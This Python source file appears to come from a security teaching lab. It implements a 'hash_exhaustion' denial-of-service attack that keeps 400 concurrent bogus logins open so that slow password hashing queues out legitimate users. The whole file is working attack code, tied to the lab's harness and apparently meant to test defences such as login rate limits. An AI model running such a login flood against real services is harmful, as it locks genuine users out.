"""Logins, for the sake of the hash.

python -m attacks.hash_exhaustion --stage 2
"""

import asyncio
import contextlib
import os

from attacks import Claim, Foothold, Goal, attack
from attacks.floods import Spate, speaking, until_over
from common.errors import LabError
from common.wire import encode

AT_ONCE = 400


@attack(
    position="outsider",
    family="dos",
    goals=(
        Goal(
            "logins",
            "make everybody who logs in wait behind guesses",
            "starved",
            "-HHHH",
            ablation="limits=off",
            absent="there are no passwords here, so there is nothing to hash",
        ),
    ),
)
async def hash_exhaustion(foothold: Foothold, goal: Goal) -> Claim:
    """A good password hash is slow on purpose: it takes the server's processor a twentieth of a second and 64 MiB to
    say that a password is wrong. Mallory keeps four hundred logins in the air, with any name and any password. The
    room goes on talking, because hashing is done beside it, two at a time. But whoever wants to come in stands in a
    queue, and all before them in it is Mallory.
    """
    await foothold.until("talking")
    login = foothold.stage.messages["login"]
    more = {"public_key": os.urandom(32)} if "public_key" in login.__struct_fields__ else {}
    line = encode(login(name="alice", password="a guess", udp_port=9, **more))
    made = await until_over(foothold, *(guesses(foothold, line) for _ in range(AT_ONCE)))
    return Claim(did=f"made {made} logins, {AT_ONCE} of them in the air at once")


async def guesses(foothold: Foothold, line: bytes) -> int:
    """One login after the other, each on a connection of its own, at most a hundred. Returns how many there were."""
    made = 0
    with contextlib.suppress(asyncio.CancelledError, LabError):
        for _ in range(100):
            spate = await speaking(foothold, Spate)
            spate.transport.write(line)
            made += 1
            try:
                await spate.over.wait()
            finally:
                spate.close()
    return made


if __name__ == "__main__":
    from lab.attack_main import main

    main("hash_exhaustion")
